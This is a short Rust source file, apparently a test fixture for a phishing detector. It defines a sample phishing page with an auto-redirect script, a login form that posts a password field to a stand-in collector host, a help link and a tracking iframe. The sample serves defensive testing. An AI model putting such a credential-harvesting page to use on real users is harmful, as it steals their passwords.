//! Rendered pages served by the mock renderer.

/// A rendered page carrying every indicator family.
pub const PHISHING_PAGE: &str = r#"<html><head>
<script type="text/javascript">setTimeout(function () { window.location = "https://collector.example/done"; }, 500);</script>
</head><body>
<form class="login-form" action="https://collector.example/post"><input name="password" type="password"></form>
<button class="login-button">Log in</button>
<a href="https://collector.example/help">Help</a>
<iframe src="https://tracker.example/pixel"></iframe>
</body></html>"#;
